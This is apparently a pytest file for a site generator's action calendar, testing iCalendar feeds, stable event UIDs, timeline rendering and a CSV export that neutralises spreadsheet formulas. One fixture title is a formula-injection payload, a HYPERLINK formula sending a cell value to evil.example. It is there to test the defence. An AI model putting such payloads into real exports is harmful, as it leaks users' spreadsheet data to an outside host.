"""The action calendar: page, iCalendar feeds, CSV export."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from datetime import date
from pathlib import Path

from icalendar import Calendar

from pacsite.analysis import analyse, calendar_entries
from pacsite.pipeline import check as load_plans
from pacsite.render import Formatter
from pacsite.render.exports import actions_csv, ics_feed, neutralise
from tests.conftest import EXAMPLE_PLANS, MINIMAL_PLAN, ROOT, SiteBuild, WriteFiles

PLAN = (
    MINIMAL_PLAN.replace("year: 2025", "year: 2026")
    .replace("start: 2025-01-15", "start: 2026-W18")
    .replace("due: 2025-03-31", "due: 2026-05-15\n    status: in_progress")
    .replace("due: 2025-12-31}", "due: 2026-12-31}")
    .replace("due: 2025-06-30}", "due: 2026-06-30}")
    + """\
  - id: trimestre
    title: Relancer les devis du trimestre
    segment: particuliers
    owner: Agence Horizon
    start: 2026-T2
    due: 2026-T2
    budget: 1200.5
  - id: formule
    title: =HYPERLINK("http://evil.example/?x="&A1, "clic")
    segment: particuliers
    owner: '@julie'
    due: 2026-09
    status: cancelled
    channel: +33 1 23 45 67 89
  - id: sans-date
    title: Appeler les clients
    segment: particuliers
    owner: julie
"""
)


def _analysis(write_files: WriteFiles) -> tuple[object, Formatter]:
    root = write_files({"plans/demo/plan.yaml": PLAN})
    result = load_plans(root / "plans")
    assert result.errors == [], [str(e) for e in result.errors]
    [loaded] = result.loaded
    return analyse(loaded.plan, loaded.measures), Formatter("fr")


def test_shorthand_dates_expand(write_files: WriteFiles) -> None:
    analysis, _ = _analysis(write_files)
    entries = {e.action.id: e for e in calendar_entries(analysis.actions)}  # type: ignore[attr-defined]
    assert (entries["salon"].first, entries["salon"].last) == (date(2026, 4, 27), date(2026, 5, 15))
    assert (entries["trimestre"].first, entries["trimestre"].last) == (
        date(2026, 4, 1),
        date(2026, 6, 30),
    )
    assert (entries["formule"].first, entries["formule"].last) == (
        date(2026, 9, 1),
        date(2026, 9, 30),
    )
    assert "sans-date" not in entries


def test_ics_feed_parses_back(write_files: WriteFiles) -> None:
    analysis, fmt = _analysis(write_files)
    entries = calendar_entries(analysis.actions)  # type: ignore[attr-defined]
    feed = ics_feed(
        analysis,
        entries,
        fmt,
        name="Plan",
        page_url={"salon": "https://intranet/demo/actions/salon/"},
    )  # type: ignore[arg-type]
    cal = Calendar.from_ical(feed)
    events = {str(e["uid"]): e for e in cal.walk("VEVENT")}
    assert set(events) == {"demo.salon@pacsite", "demo.trimestre@pacsite", "demo.formule@pacsite"}
    quarter = events["demo.trimestre@pacsite"]
    assert quarter.decoded("dtstart") == date(2026, 4, 1)
    assert quarter.decoded("dtend") == date(2026, 7, 1)  # exclusive
    salon = events["demo.salon@pacsite"]
    assert salon.decoded("dtstart") == date(2026, 4, 27)
    assert str(salon["url"]) == "https://intranet/demo/actions/salon/"
    assert "Julie Martin" in str(salon["description"])
    assert str(events["demo.formule@pacsite"]["status"]) == "CANCELLED"
    assert str(cal["x-wr-calname"]) == "Plan"


def test_feeds_of_two_sites_never_share_an_event_and_names_are_text(
    write_files: WriteFiles,
) -> None:
    """Subscribed to both, the same plan and action ids on two sites are two events; a
    calendar's name is an escaped TEXT value (RFC 5545 3.3.11), read back whole."""
    from pacsite.render.exports import feed_site

    analysis, fmt = _analysis(write_files)
    entries = calendar_entries(analysis.actions)  # type: ignore[attr-defined]
    name = "Plan 2026; Nord, Sud \\ Est"
    feeds = [
        ics_feed(analysis, entries, fmt, name=name, page_url={}, site=feed_site(url, "pac"))  # type: ignore[arg-type]
        for url in ("https://acme.github.io/pac/", "https://intranet.acme.fr/commercial/pac/")
    ]
    uids = [{str(e["uid"]) for e in Calendar.from_ical(f).walk("VEVENT")} for f in feeds]
    assert uids[0] and not uids[0] & uids[1]
    assert "demo.salon@acme.github.io/pac" in uids[0]
    assert b"X-WR-CALNAME:Plan 2026\\; Nord\\, Sud \\\\ Est" in feeds[0]
    raw = str(Calendar.from_ical(feeds[0])["x-wr-calname"])  # an X- property: kept as written
    assert re.sub(r"\\([\\;,])", r"\1", raw) == name  # RFC 5545's TEXT unescaped
    assert feed_site(None, "pac") == "pac.pacsite"


def test_csv_is_excel_ready_and_inert(write_files: WriteFiles) -> None:
    analysis, fmt = _analysis(write_files)
    entries = calendar_entries(analysis.actions)  # type: ignore[attr-defined]
    data = actions_csv(analysis, entries, fmt, delimiter=";")  # type: ignore[arg-type]
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["Action", "Qui", "Segment"]
    by_title = {r[0]: r for r in rows[1:]}
    evil = next(r for r in rows[1:] if "HYPERLINK" in r[0])
    assert evil[0].startswith("'=HYPERLINK(")
    assert evil[1] == "'@julie" and evil[-1] == "'+33 1 23 45 67 89"
    assert by_title["Relancer les devis du trimestre"][7] == "1200,5"
    assert by_title["Relancer les devis du trimestre"][3:6] == ["", "2026-04-01", "2026-06-30"]


def test_neutralise() -> None:
    assert [neutralise(x) for x in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "ok", ""]] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@SUM(A1)",
        "'\t=1",
        "ok",
        "",
    ]


def test_calendar_pages_and_stable_uids(site: Callable[..., SiteBuild]) -> None:
    s = site({"plans/demo/plan.yaml": PLAN})
    s.build()
    soup = s.html("demo/calendar")
    rows = soup.select("table.pacsite-sortable:not(.pacsite-agenda) tbody tr")
    assert len(rows) == 3
    first_feed = (s.site / "demo/calendar.ics").read_bytes()
    links = {a.get_text(strip=True): a["href"] for a in soup.select("ul.pacsite-exports a")}
    assert links["Agenda abonnable (.ics)"] == "../calendar.ics"
    assert links["Tableau des actions (.csv)"] == "../actions.csv"
    owners = s.html("demo/owners")
    assert [h.get_text(strip=True).rstrip("¶") for h in owners.select("h2")] == [
        "Julie Martin",
        "Agence Horizon",
        "@julie",
    ]
    assert (s.site / "demo/owners/julie.ics").is_file() and (
        s.site / "demo/owners/agence-horizon.ics"
    ).is_file()
    s.build()
    assert (s.site / "demo/calendar.ics").read_bytes() == first_feed
    # the timeline is drawn at build time: no chart library on the calendar page
    assert s.charts("demo/calendar") == []
    views = soup.select(".pacsite-tl__view")
    assert [v["class"][1] for v in views] == [
        "pacsite-tl__view--segment",
        "pacsite-tl__view--owner",
    ]
    for view in views:
        bars = view.select("a rect")
        assert len(bars) == 3
        assert all(a["xlink:href"].startswith("../actions/") for a in view.select("a"))
    # the fair runs from Monday of week 18 (27 April 2026) to 15 May: x from the start of the
    # year on a 660-wide plot after the 330-wide labels, 365 days
    fair = next(a for a in views[0].select("a") if "Exposer au salon" in a.title.get_text())
    rect = fair.select_one("rect")
    assert float(rect["x"]) == round(330 + 660 * 116 / 365, 1)
    assert float(rect["width"]) == round(round(330 + 660 * 135 / 365, 1) - float(rect["x"]), 1)
    assert rect["class"] == ["pacsite-tl--late", "pacsite-tl--overdue"]  # past due, judged today
    assert "27 avr. 2026 → 15 mai 2026" in fair.title.get_text()


def test_example_calendars_show_every_dated_action(tmp_path: Path) -> None:
    from bs4 import BeautifulSoup
    from mkdocs.commands.build import build
    from mkdocs.config import load_config

    build(load_config(str(ROOT / "mkdocs.yml"), site_dir=str(tmp_path)))
    for loaded in load_plans(EXAMPLE_PLANS).loaded:
        dated = {a.id for a in loaded.plan.actions if a.start or a.due}
        html = (tmp_path / loaded.plan.id / "calendar" / "index.html").read_text(encoding="utf-8")
        soup = BeautifulSoup(html, "html.parser")
        linked = {
            a["href"].rstrip("/").split("/")[-1]
            for a in soup.select(
                "table.pacsite-sortable:not(.pacsite-agenda) tbody td:first-child a"
            )
        }
        assert linked == dated, loaded.plan.id
        feed = Calendar.from_ical((tmp_path / loaded.plan.id / "calendar.ics").read_bytes())
        assert {str(e["uid"]).split("@")[0].split(".", 1)[1] for e in feed.walk("VEVENT")} == dated
